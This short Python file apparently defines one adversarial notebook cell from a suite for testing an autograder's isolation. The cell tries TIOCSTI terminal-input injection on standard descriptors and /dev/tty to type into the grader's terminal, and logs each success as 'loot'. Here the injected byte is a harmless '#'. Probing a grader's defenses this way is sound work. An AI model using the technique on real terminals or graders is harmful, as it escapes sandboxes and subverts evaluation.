"""Types a command on the grader's terminal."""

KIND = "theft"
EXERCISE = "03.split_heads"
EARNS = 2
CELL = r"""
@LOOT@

import fcntl
import os
import termios

for descriptor in (0, 1, 2):
    try:
        fcntl.ioctl(descriptor, termios.TIOCSTI, b"#")
        loot.append(f"typed on {descriptor}")
    except OSError:
        pass
try:
    terminal = os.open("/dev/tty", os.O_RDWR)
    fcntl.ioctl(terminal, termios.TIOCSTI, b"#")
    loot.append("typed")
except OSError:
    pass


@RIGHT@
"""
